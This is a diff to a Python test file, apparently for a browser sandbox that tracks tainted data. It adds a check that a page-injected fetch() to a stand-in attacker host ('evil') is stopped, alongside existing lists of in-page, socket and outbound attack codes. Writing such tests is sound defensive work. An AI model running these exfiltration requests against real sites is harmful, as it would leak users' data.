@@ -100,6 +100,10 @@ async def test_code_in_a_page_gets_nothing_out_even_with_its_first_breath(
     async with tainted(chromium, folder, asker=Nobody()) as place, place.repl() as repl:
         await block(repl, f"var a = await openTab('{shop.url('shop')}'); await waitForLoad(a)")
         assert not place.taint.is_tainted
+        first = f"fetch('{evil}/first', {{mode: 'no-cors'}}).then(() => 'sent', () => 'stopped')"
+        await repl.define("first", json.dumps(first).encode())
+        told = await block(repl, "await execInTab(a, first, {world: 'main'})")
+        assert '"stopped"' in told
         attacks = [*codes(IN_PAGE, evil).values(), *codes(SOCKETS, evil).values()]
         await repl.define("attacks", json.dumps(attacks).encode())
         await repl.define("leaving", json.dumps([*codes(LEAVING, evil).values()]).encode())
